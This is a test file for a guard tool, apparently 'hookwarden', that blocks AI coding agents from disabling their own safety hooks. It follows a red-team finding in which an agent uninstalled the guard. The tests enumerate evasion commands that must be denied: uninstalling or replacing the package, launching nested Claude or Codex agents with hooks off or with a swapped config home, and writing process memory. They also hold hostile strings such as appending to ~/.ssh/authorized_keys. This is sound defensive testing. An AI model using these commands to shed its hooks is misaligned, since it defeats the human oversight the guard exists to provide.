// Switching the guard off with its own tools (issue 13, red team of 2026-12-07): `hookwarden
// uninstall` run by the agent removed every hook from ~/.claude/settings.json although no path rule
// saw a file it writes, and `npm uninstall -g hookwarden` deleted the installed build (the agents
// run the tool when the registered hook cannot start). Both are locked `self` command rules.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { bash, world as makeWorld, type World } from '../helpers/self-world.js';
import { tempDirs } from '../helpers/tmp.js';

const tmp = tempDirs('hw-selfreg-');
const world = (): World => makeWorld(fs.realpathSync(tmp()));

function blocked(w: World, cmd: string, rule: string): void {
  const v = bash(w, cmd);
  assert.equal(v.decision, 'deny', `${cmd}: ${v.reason ?? 'allowed'}`);
  // Through npx/bunx the rule of the same name with `-npx` decides.
  assert.ok(v.rule === rule || (cmd.startsWith('npx @') && v.rule === `${rule}-npx`), `${cmd}: ${v.rule}: ${v.reason}`);
  assert.equal(v.layer, 'builtin:self', cmd);
}

describe('the agent cannot register, unregister or remove the guard with its own tools', () => {
  test('hookwarden install / uninstall, by name, path, npx, node …/cli.js, nested in a shell', () => {
    const w = world();
    for (const cmd of ['hookwarden uninstall', 'hookwarden uninstall --agent claude', 'hookwarden install --agent codex --scope user',
      '/usr/local/bin/hookwarden uninstall', 'npx hookwarden uninstall', 'npx -y hookwarden@latest uninstall --agent claude',
      'node ./node_modules/hookwarden/dist/cli.js uninstall', 'node /opt/x/dist/cli.js install --scope project',
      'sh -c "hookwarden uninstall"', 'echo y | hookwarden uninstall', 'true && hookwarden  uninstall --json']) {
      blocked(w, cmd, cmd.includes('node ') || cmd.startsWith('npx') ? 'self.register-cli' : 'self.register');
    }
  });

  test('a package manager removing, replacing or relinking the hookwarden package', () => {
    const w = world();
    for (const cmd of ['npm uninstall -g hookwarden', 'npm rm -g hookwarden', 'npm un hookwarden', 'npm r --global hookwarden',
      'npm remove hookwarden', 'npm -g uninstall hookwarden', 'npm install -g hookwarden@0.0.1', 'npm i -g github:evil/hookwarden',
      'npm update -g hookwarden', 'npm unlink -g hookwarden', 'npm link hookwarden', 'pnpm remove -g hookwarden', 'pnpm rm hookwarden',
      'pnpm add -g hookwarden@0.1.0', 'bun remove -g hookwarden', 'yarn remove hookwarden', 'sudo npm uninstall -g hookwarden']) {
      blocked(w, cmd, 'self.package');
    }
    for (const cmd of ['yarn global remove hookwarden', 'yarn global add hookwarden@0.0.1']) blocked(w, cmd, 'self.package-yarn');
  });

  test('what stays allowed: the read-only subcommands, other packages, words as data', () => {
    const w = world();
    for (const cmd of ['hookwarden doctor', 'hookwarden check --command "ls"', 'hookwarden tail --json', 'hookwarden verify',
      'hookwarden install --help', 'npm uninstall -g typescript', 'npm install', 'npm ci', 'npm i -D vitest', 'pnpm add zod',
      'yarn global add serve', 'npm ls -g hookwarden', 'npm view hookwarden version', 'echo "run hookwarden uninstall to remove it"',
      'git commit -m "hookwarden uninstall: keep backups"', 'grep -r "npm uninstall -g hookwarden" docs']) {
      const v = bash(w, cmd);
      assert.equal(v.decision, 'allow', `${cmd}: ${v.reason}`);
    }
  });
});

describe('the agent cannot start another agent with the hooks switched off', () => {
  test('codex with a hooks config override or the feature disabled; claude with other settings, other sources or --bare', () => {
    const w = world();
    for (const cmd of ["codex exec -c features.hooks=false 'echo k >> ~/.ssh/authorized_keys'", "codex -c 'features.codex_hooks=false' exec x",
      'codex --config hooks.state.x.enabled=false exec x', 'codex exec -c=features.hooks=false x', 'codex --disable hooks exec x',
      'codex exec --disable=codex_hooks x', 'npx @openai/codex exec -c features.hooks=false x']) {
      blocked(w, cmd, 'self.nested-codex');
    }
    for (const cmd of [`claude -p --settings '{"disableAllHooks":true}' x`, 'claude --settings /tmp/s.json -p x', 'claude --setting-sources project -p x',
      'claude --setting-sources=local -p x', 'claude --bare -p x', 'npx @anthropic-ai/claude-code --bare -p x']) {
      blocked(w, cmd, 'self.nested-claude');
    }
  });

  test('codex or claude started with another config home, HOME, or an emptied environment', () => {
    const w = world();
    for (const cmd of ["CODEX_HOME=$(mktemp -d) codex exec 'x'", 'export CODEX_HOME=/tmp/c; codex exec x', 'HOME=/tmp/h codex exec x',
      'CLAUDE_CONFIG_DIR=/tmp/x claude -p x', 'env HOME=/tmp/h claude -p x', 'env -i claude -p x', 'env -u CLAUDE_CONFIG_DIR claude -p x',
      'D=$(mktemp -d); cp ~/.codex/auth.json $D/; CODEX_HOME=$D codex exec x', 'sh -c "HOME=/tmp/h claude -p x"']) {
      const v = bash(w, cmd);
      assert.equal(v.decision, 'deny', `${cmd}: ${v.reason ?? 'allowed'}`);
      assert.match(v.reason ?? '', /would run without this guard's hooks/, cmd);
    }
  });

  test('a nested agent with its hooks as configured stays allowed', () => {
    const w = world();
    for (const cmd of ["codex exec 'fix the tests'", 'codex -c model=gpt-5 exec x', 'codex --enable web_search exec x', "claude -p 'summarize the diff'",
      'claude --model sonnet -p x', 'codex --help', 'claude --version']) {
      const v = bash(w, cmd);
      assert.equal(v.decision, 'allow', `${cmd}: ${v.reason}`);
    }
  });
});

test('writing another process memory (the daemon answers for the guard) is blocked; reading /proc is not', () => {
  const w = world();
  for (const cmd of ['echo x > /proc/1/mem', 'dd of=/proc/$(pgrep -f daemon.js)/mem bs=1 seek=4096', 'printf x | tee /proc/1/task/1/mem']) {
    const v = bash(w, cmd);
    assert.equal(v.decision, 'deny', `${cmd}: ${v.reason ?? 'allowed'}`);
  }
  for (const cmd of ['cat /proc/1/status', 'cat /proc/meminfo', 'echo 1 > /proc/sys/vm/drop_caches']) assert.equal(bash(w, cmd).decision, 'allow', cmd);
});

// The rules are data: the README names them; keep them together.
test('the self preset lists the registration and package rules', () => {
  const self = JSON.parse(fs.readFileSync(path.join(import.meta.dirname, '../../rules/self.json'), 'utf8')) as { commands: { id: string; locked: boolean }[] };
  for (const id of ['self.register', 'self.register-cli', 'self.package', 'self.package-yarn', 'self.nested-codex', 'self.nested-claude', 'self.nested-codex-npx', 'self.nested-claude-npx']) {
    assert.equal(self.commands.find((c) => c.id === id)?.locked, true, id);
  }
});
